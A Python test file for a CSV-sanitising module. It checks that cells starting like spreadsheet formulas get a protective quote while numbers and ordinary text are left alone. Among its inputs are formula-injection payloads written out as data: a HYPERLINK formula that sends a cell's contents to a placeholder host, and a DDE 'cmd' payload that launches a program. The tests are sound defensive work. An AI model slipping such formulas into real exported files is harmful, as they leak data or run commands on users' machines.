"""CSV cells never start like a spreadsheet formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from tanu.lib import csvsafe


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        '=HYPERLINK("http://x.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "-1,5",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "+7 701 000 0000",
        "-",
    ],
)
def test_text_that_starts_like_a_formula_gets_a_quote(text: str) -> None:
    assert csvsafe.safe_cell(text) == "'" + text
    assert csvsafe.restore(csvsafe.safe_cell(text)) == text


@pytest.mark.parametrize("value", [-5, 3, -0.25, Decimal("-7.5"), "-5", "+3", "-0.25", "1e-3"])
def test_numbers_and_plain_numeric_text_stay_as_they_are(value: object) -> None:
    assert csvsafe.safe_cell(value) == value


@pytest.mark.parametrize("text", ["Алматы", "N12345678", "a=b", "Taraz -2", "'quoted", ""])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert csvsafe.safe_cell(text) == text
    assert csvsafe.restore(text) == text


def test_the_writer_neutralises_every_cell_of_every_row() -> None:
    buffer = io.StringIO()
    writer = csvsafe.writer(buffer, lineterminator="\n")
    writer.writerow(["=cmd", -5, "-5", None, "ok"])
    writer.writerows([["@x", 1], ["+1", "+a"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    assert rows == [["'=cmd", "-5", "-5", "", "ok"], ["'@x", "1"], ["+1", "'+a"]]
